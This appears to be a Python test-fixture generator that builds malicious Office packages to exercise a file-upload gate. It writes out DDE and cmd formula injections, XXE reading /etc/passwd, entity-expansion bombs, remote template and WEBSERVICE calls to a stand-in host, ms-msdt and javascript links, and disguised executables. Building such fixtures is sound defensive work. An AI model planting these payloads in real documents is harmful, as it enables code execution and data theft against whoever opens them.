"""Word, Excel and PPT packages that act: macros, objects, calls, links that fetch, XML that explodes."""

from io import BytesIO
from random import Random
from typing import Final
from zipfile import ZipFile

from tests.uploads.making import Made, Makers, excel, main_folder, office, title, with_raw, with_relation, word

from yaodian.formats.gate.tests import files

_W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OLE: Final = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)
_EXPLODING: Final = '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
_CANARY: Final = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
_REMOTE: Final = '<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>'
_SHEET: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_PICTURE_HEAD: Final = b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR"


def macro_type(rng: Random) -> Made:
    """A file with macros under the name of one without."""
    suffix, base = office(rng)
    kinds = {".docx": "ms-word.document", ".xlsx": "ms-excel.sheet", ".pptx": "ms-powerpoint.presentation"}
    kind = f"application/vnd.{kinds[suffix]}.macroEnabled.main+xml"
    return title(rng) + suffix, files.with_type(
        base, f"{main_folder(suffix)}/more{rng.randint(1, 9)}.xml", kind, "<a/>"
    )


def macro_part(rng: Random) -> Made:
    suffix, base = office(rng)
    name = rng.choice(["vbaProject.bin", "VBAPROJECT.BIN", "vbaData.xml"])
    return title(rng) + suffix, with_raw(base, (f"{main_folder(suffix)}/{name}", _OLE))


def macro_in_disguise(rng: Random) -> Made:
    suffix, base = office(rng)
    if rng.random() < 0.5:
        kind = "application/vnd.ms-office.vbaProject"
        return title(rng) + suffix, files.with_type(base, f"{main_folder(suffix)}/x{rng.randint(1, 9)}.dat", kind, b"x")
    kind, target = rng.choice([("vbaProject", "x.dat"), ("xlMacrosheet", "m.xml"), ("attachedToolbars", "t.bin")])
    return title(rng) + suffix, with_relation(base, suffix, kind, target, "Internal")


def macro_in_an_embedded_file(rng: Random) -> Made:
    suffix, base = office(rng)
    for _ in range(rng.randint(1, 3)):
        base = with_raw(word(), (f"word/embeddings/a{rng.randint(1, 99)}.docx", _with_macro(base)))
    del suffix
    return title(rng) + ".docx", base


def _with_macro(base: bytes) -> bytes:
    return with_raw(base, ("word/vbaProject.bin", _OLE)) if b"vbaProject.bin" not in base else base


def ole_object(rng: Random) -> Made:
    suffix, base = office(rng)
    place = rng.choice(["embeddings/oleObject1.bin", "embeddings/a.exe", "media/image9.emf", "objects/o1.dat"])
    return title(rng) + suffix, with_raw(base, (f"{main_folder(suffix)}/{place}", _OLE))


def object_relation(rng: Random) -> Made:
    suffix, base = office(rng)
    kind = rng.choice(["oleObject", "control", "aFChunk", "webextensiontaskpanes", "activeXControlBinary"])
    return title(rng) + suffix, with_relation(base, suffix, kind, f"part{rng.randint(1, 9)}.html", "Internal")


def active_control(rng: Random) -> Made:
    suffix, base = office(rng)
    return title(rng) + suffix, with_raw(
        base, (f"{main_folder(suffix)}/activeX/activeX{rng.randint(1, 9)}.xml", b"<a/>")
    )


def web_part(rng: Random) -> Made:
    suffix, base = office(rng)
    kind = rng.choice(["text/html", "message/rfc822", "application/rtf", "application/vnd.ms-office.webextension+xml"])
    return title(rng) + suffix, files.with_type(base, f"{main_folder(suffix)}/part{rng.randint(1, 9)}.dat", kind, "x")


def remote_template(rng: Random) -> Made:
    suffix, base = office(rng)
    target = rng.choice(["http://192.0.2.1/a.dotm", "file://192.0.2.1/a.dotm", "\\\\192.0.2.1\\a\\b.dotm"])
    place = rng.choice(["word/_rels/settings.xml.rels", "word/_rels/x.xml.rels"])
    data = files.with_parts(
        base, {place: files.relations("attachedTemplate", target, rng.choice(["External", "external"]))}
    )
    return title(rng) + suffix, data


def remote_part(rng: Random) -> Made:
    suffix, base = office(rng)
    kinds = ("image", "video", "audio", "externalLinkPath", "mailMergeSource", "oleObject", "frame", "subDocument")
    return title(rng) + suffix, with_relation(base, suffix, rng.choice(kinds), f"http://192.0.2.{rng.randint(1, 99)}/a")


def hyperlink(rng: Random) -> Made:
    suffix, base = office(rng)
    targets = (
        *("javascript:alert(1)", "JAVA\tSCRIPT:alert(1)", "vbscript:x", "ms-msdt:/id%20x", "search-ms:query=a"),
        *("file://192.0.2.1/a.lnk", "\\\\192.0.2.1\\a.exe", "data:text/html,x", "ms-word:ofe|u|http://192.0.2.1/a"),
    )
    target = rng.choice(targets).replace("\t", "&#9;")
    return title(rng) + suffix, with_relation(base, suffix, "hyperlink", target)


def calling_field(rng: Random) -> Made:
    instructions = (
        *('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', "dde excel a b", 'LINK Excel.Sheet.8 "a.xls" x'),
        *('INCLUDEPICTURE "http://192.0.2.1/a.png" \\d', 'INCLUDETEXT "\\\\\\\\192.0.2.1\\\\a.docx"'),
        *("QUOTE 68 68 69 65 85 84 79", 'IMPORT "https://192.0.2.1/a"', 'DATABASE \\d "http://192.0.2.1/a"'),
    )
    chosen = rng.choice(instructions).replace("&", "&amp;").replace('"', "&quot;")
    return title(rng) + ".docx", files.with_parts(word(), {"word/document.xml": _document(_field(chosen, rng))})


def _field(instruction: str, rng: Random) -> str:
    if rng.random() < 0.3:
        return f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p>'
    cut = rng.randint(1, 3)
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in (instruction[:cut], instruction[cut:])
    )
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def _document(body: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'


def calling_formula(rng: Random) -> Made:
    formulas = (
        *("cmd|'/C calc'!A0", "MSEXCEL|'\\..\\..\\cmd.exe'!''", "1+cmd|'/C calc'!A0", "cmd&#124;'/C calc'!A0"),
        *('_xlfn.WEBSERVICE("http://192.0.2.1/"&amp;A1)', 'IF(1,webservice("http://192.0.2.1"),0)'),
    )
    cells = f'<row r="1"><c r="A{rng.randint(1, 99)}"><f>{rng.choice(formulas)}</f><v>0</v></c></row>'
    sheet = f'<worksheet xmlns="{_SHEET}"><sheetData>{cells}</sheetData></worksheet>'
    return title(rng) + ".xlsx", files.with_parts(excel(), {"xl/worksheets/sheet1.xml": sheet})


def calling_link(rng: Random) -> Made:
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml."
    if rng.random() < 0.5:
        return title(rng) + ".xlsx", files.with_type(excel(), "xl/connections.xml", f"{kind}connections+xml", "<a/>")
    call = f'<{rng.choice(["ddeLink", "oleLink"])} ddeService="cmd" ddeTopic="/C calc"/>'
    link = f'<externalLink xmlns="{_SHEET}">{call}</externalLink>'
    return title(rng) + ".xlsx", files.with_type(excel(), "xl/externalLinks/l1.xml", f"{kind}externalLink+xml", link)


def document_type(rng: Random) -> Made:
    """DOCTYPE in any part, in any writing."""
    suffix, base = office(rng)
    text = rng.choice([_EXPLODING, _CANARY, _REMOTE, _REMOTE.lower(), "\n" * rng.randint(65_520, 65_540) + _EXPLODING])
    content = text.encode(rng.choice(["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-32-le"]))
    name = rng.choice(
        ["customXml/item91.xml", "docProps/more.xml", f"{main_folder(suffix)}/media/image1.svg", "a/b.dat"]
    )
    return title(rng) + suffix, with_raw(base, (name, content))


def document_type_in_a_main_part(rng: Random) -> Made:
    suffix, base = office(rng)
    name = rng.choice(["[Content_Types].xml", "_rels/.rels"])
    return title(rng) + suffix, files.with_parts(base, {name: rng.choice([_EXPLODING, _CANARY, _REMOTE])})


def foreign_encoding(rng: Random) -> Made:
    suffix, base = office(rng)
    codec = rng.choice(["cp037", "utf-7", "cp500"])
    text = f'<?xml version="1.0" encoding="{codec}"?>{_EXPLODING}'
    content = text.encode(codec) if codec != "utf-7" else text.replace("<!", "+ADwAIQ-").encode()
    return title(rng) + suffix, with_raw(base, (f"customXml/item{rng.randint(11, 99)}.xml", content))


def tangle(rng: Random) -> Made:
    depth = rng.randint(200, 9000)
    body = "<w:p>" * depth + "</w:p>" * depth
    return title(rng) + ".docx", files.with_parts(word(), {"word/document.xml": _document(body)})


def many_tags(rng: Random) -> Made:
    """Packed badly on purpose, so that no ratio gives it away."""
    tags = b"".join(b"<%x/>" % (rng.getrandbits(40) | 0xA << 40) for _ in range(20_000)) * 51
    return title(rng) + ".docx", with_raw(word(), ("word/_rels/footnotes.xml.rels", b"<a>" + tags + b"</a>"))


def smuggled(rng: Random) -> Made:
    suffix, base = office(rng)
    content = rng.choice(
        [
            b"MZ" + bytes(120) + b"PE\x00\x00" + bytes(60),
            b"\x7fELF" + bytes(60),
            b"%PDF-1.4 x",
            b"{\\rtf1 x}",
            b"#!/bin/sh\nid",
        ],
    )
    return title(rng) + suffix, with_raw(base, (f"{main_folder(suffix)}/media/image{rng.randint(5, 9)}.png", content))


def script(rng: Random) -> Made:
    suffix, base = office(rng)
    drawing = rng.choice(
        ["<script>alert(1)</script>", '<a href="javascript:alert(1)"/>', "<SCRIPT href='http://192.0.2.1'/>"]
    )
    text = f'<svg xmlns="http://www.w3.org/2000/svg">{drawing}</svg>'.encode(rng.choice(["utf-8", "utf-16"]))
    return title(rng) + suffix, with_raw(base, (f"{main_folder(suffix)}/media/image{rng.randint(5, 9)}.svg", text))


def huge_picture(rng: Random) -> Made:
    suffix, base = office(rng)
    wide, high = (rng.randint(8_000, 60_000).to_bytes(4, "big") for _ in range(2))
    heads = (
        ("png", _PICTURE_HEAD + wide + high + bytes(40)),
        ("gif", b"GIF89a" + b"\xff\xff\xff\xff" + bytes(40)),
        ("jpeg", b"\xff\xd8\xff\xe0\x00\x04\x00\x00\xff\xc0\x00\x11\x08" + wide[2:] + high[2:] + bytes(40)),
        ("webp", b"RIFF\x00\x00\x00\x00WEBPVP8X" + bytes(8) + b"\xff\xff\x00\xff\xff\x00" + bytes(40)),
        ("bmp", b"BM" + bytes(16) + wide[::-1] + high[::-1] + bytes(40)),
    )
    kind, content = rng.choice(heads)
    return title(rng) + suffix, with_raw(base, (f"{main_folder(suffix)}/media/image9.{kind}", content))


def template(rng: Random) -> Made:
    suffix, base = office(rng)
    for word_ in (b"document.main+xml", b"sheet.main+xml", b"presentation.main+xml"):
        base = _typed(base, word_.decode())
    return title(rng) + suffix, base


def _typed(base: bytes, ending: str) -> bytes:
    with ZipFile(BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml").decode()
    return files.with_parts(base, {"[Content_Types].xml": types.replace(ending, "template.main+xml")})


def old_or_locked(rng: Random) -> Made:
    stream = rng.choice(["EncryptedPackage", "WordDocument", "Workbook", "PowerPoint Document", "Nothing"])
    data = _OLE + stream.encode("utf-16-le") + bytes(rng.randint(10, 400))
    return title(rng) + rng.choice([".docx", ".xlsx", ".doc", ".xls", ".wps", ".msg", ""]), data


OFFICE: Final[Makers] = {
    maker.__name__: maker
    for maker in (
        *(macro_type, macro_part, macro_in_disguise, macro_in_an_embedded_file, ole_object, object_relation),
        *(active_control, web_part, remote_template, remote_part, hyperlink, calling_field, calling_formula),
        *(calling_link, document_type, document_type_in_a_main_part, foreign_encoding, tangle, many_tags, smuggled),
        *(script, huge_picture, template, old_or_locked),
    )
}
